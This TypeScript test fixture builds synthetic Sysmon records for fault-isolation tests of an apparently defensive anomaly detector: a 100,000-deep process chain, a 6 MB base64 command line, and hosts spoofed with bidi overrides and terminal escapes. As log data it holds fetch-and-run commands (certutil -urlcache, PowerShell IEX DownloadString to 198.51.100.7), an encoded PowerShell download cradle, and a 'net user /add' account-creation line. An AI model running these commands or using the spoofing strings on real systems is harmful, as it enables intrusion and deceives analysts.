/**
 * Hostile hosts beside an ordinary fleet with attacks, for the fault-isolation cases of the
 * hostile corpus: one host with a parent→child chain 100,000 processes deep (an intruder can
 * spawn that), one with a 6 MB command line (a forged log line or Elasticsearch document), and
 * one whose host, user, image and command line carry right-to-left overrides and terminal
 * escape sequences. The fleet is the generator's (seeded, labelled), so a test knows which of
 * its events are attacks and can check they are still flagged beside the hostile hosts.
 */
import fs from 'node:fs';
import type { EventLabel } from '../../common/types/process_event';
import { generateSync } from '../../server/lib/generator/generate';

/** The fleet's day (the generator's default start) holds every record here. */
export const FLEET_DAY = { start: '2026-01-05T00:00:00.000Z', end: '2026-01-06T00:00:00.000Z' };
export const DEEP_HOST = 'deep.hostile.example';
export const LONG_HOST = 'long.hostile.example';
/** Host name with a right-to-left override: shown as "dll.exe" reversed unless escaped. */
export const SPOOF_HOST = 'spoof-\u202Eexe.lld\u202C.hostile.example';
export const SPOOF_USER = 'admin\u202Egnp.exe';
/** An image name an analyst would read as "dll.exe" though it is "exe.lld". */
export const SPOOF_IMAGE = 'C:\\Users\\Public\\\u202Eexe.lld';
/** A command line that sets the terminal's window title and hides text (ESC sequences). */
export const ESCAPE_COMMAND_LINE =
  'cmd.exe /c echo \u001b]0;owned\u0007\u001b[8mhidden\u001b[0m \u009b31m done';

const T0 = Date.parse('2026-01-05T09:00:00.000Z');

function sysmonTime(ms: number): string {
  return new Date(ms).toISOString().replace('T', ' ').replace('Z', '');
}

function guid(tag: number, n: number): string {
  return `{${tag.toString(16).padStart(8, '0')}-0000-4000-8000-${n.toString(16).padStart(12, '0')}}`;
}

// What each step runs: an intruder's chain the model scores as anomalous, so the community is
// a candidate and goes through every stage (chain rendering included), not dropped unscored.
const CHAIN: Array<[string, (i: number) => string]> = [
  ['cmd.exe', (i) => `cmd.exe /c whoami /all & net user admin${i % 97} /add`],
  [
    'powershell.exe',
    () =>
      'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA',
  ],
  ['rundll32.exe', (i) => `rundll32.exe C:\\Users\\Public\\s${i % 97}.dll,Start`],
  ['certutil.exe', (i) => `certutil.exe -urlcache -split -f http://198.51.100.7/p${i % 97} p.exe`],
];

function sysmon(
  host: string,
  t: number,
  proc: { guid: string; pid: number; image: string; cmd: string; user?: string },
  parent: { guid: string; pid: number; image: string; cmd: string },
): Record<string, unknown> {
  return {
    EventID: 1,
    SourceName: 'Microsoft-Windows-Sysmon',
    Hostname: host,
    UtcTime: sysmonTime(t),
    ProcessGuid: proc.guid,
    ProcessId: String(proc.pid),
    Image: proc.image,
    CommandLine: proc.cmd,
    User: proc.user ?? 'CORP\\intruder',
    ParentProcessGuid: parent.guid,
    ParentProcessId: String(parent.pid),
    ParentImage: parent.image,
    ParentCommandLine: parent.cmd,
  };
}

/**
 * A chain `depth` processes deep on one host: each process starts the next, 10 ms apart, all
 * inside FLEET_DAY. Made one record at a time, so the input takes no memory.
 */
export function* deepChain(depth: number, host = DEEP_HOST): Generator<Record<string, unknown>> {
  const node = (i: number) => {
    const [name, cmd] = CHAIN[i % CHAIN.length] as [string, (i: number) => string];
    return {
      guid: guid(0xdee9, i),
      pid: 1000 + (i % 60_000),
      image: `C:\\Windows\\System32\\${name}`,
      cmd: cmd(i),
    };
  };
  for (let i = 1; i <= depth; i++) yield sysmon(host, T0 + i * 10, node(i), node(i - 1));
}

/** One process whose command line is `mib` MiB of base64 (the longest greedy run a regex sees). */
export function longCommandLine(mib = 6, host = LONG_HOST): Record<string, unknown> {
  const unit = 'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA';
  const n = Math.round(mib * 1024 * 1024);
  const payload = unit.repeat(Math.ceil(n / unit.length)).slice(0, n);
  const ps = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
  return sysmon(
    host,
    T0 + 5_000,
    { guid: guid(0x1096, 1), pid: 4100, image: ps, cmd: `powershell.exe -nop -enc ${payload}` },
    {
      guid: guid(0x1096, 0),
      pid: 4000,
      image: 'C:\\Windows\\System32\\cmd.exe',
      cmd: 'cmd.exe /c run',
    },
  );
}

/** A short chain whose names and command line carry bidi overrides and terminal escapes. */
export function spoofedChain(host = SPOOF_HOST): Array<Record<string, unknown>> {
  const office = {
    guid: guid(0x5f00, 0),
    pid: 3000,
    image: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
    cmd: '"WINWORD.EXE" /n invoice.docm',
  };
  const shell = {
    guid: guid(0x5f00, 1),
    pid: 3001,
    image: 'C:\\Windows\\System32\\cmd.exe',
    cmd: ESCAPE_COMMAND_LINE,
    user: `CORP\\${SPOOF_USER}`,
  };
  const payload = {
    guid: guid(0x5f00, 2),
    pid: 3002,
    image: SPOOF_IMAGE,
    cmd: `"${SPOOF_IMAGE}" -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')`,
    user: `CORP\\${SPOOF_USER}`,
  };
  return [sysmon(host, T0 + 1_000, shell, office), sysmon(host, T0 + 1_010, payload, shell)];
}

export interface Fleet {
  /** Flat Sysmon records of every fleet event, in time order. */
  records: Array<Record<string, unknown>>;
  /** The generator's label of each record, same order. */
  labels: EventLabel[];
  /** Hosts that carry at least one malicious event. */
  attackedHosts: Set<string>;
}

/** The job tests' fleet (4 hosts, one day, 4 attacks, seed 11) as flat Sysmon records. */
export function fleet(): Fleet {
  const records: Array<Record<string, unknown>> = [];
  const labels: EventLabel[] = [];
  const attackedHosts = new Set<string>();
  for (const r of generateSync({
    hosts: 4,
    days: 1,
    attacks: 4,
    seed: 11,
    eventsPerHostDay: 400,
    format: 'sysmon',
  })) {
    records.push(r.sysmon as unknown as Record<string, unknown>);
    labels.push(r.label);
    if (r.label.malicious) attackedHosts.add(r.event.host.name.toLowerCase());
  }
  return { records, labels, attackedHosts };
}

/** Writes records as NDJSON, streaming (a 100,000-deep chain is ~50 MB of text). */
export function writeNdjson(file: string, ...sources: Iterable<Record<string, unknown>>[]): void {
  const fd = fs.openSync(file, 'w');
  try {
    let buf: string[] = [];
    const flush = () => {
      if (buf.length > 0) fs.writeSync(fd, buf.join(''));
      buf = [];
    };
    for (const src of sources)
      for (const r of src) {
        buf.push(`${JSON.stringify(r)}\n`);
        if (buf.length >= 2_000) flush();
      }
    flush();
  } finally {
    fs.closeSync(fd);
  }
}
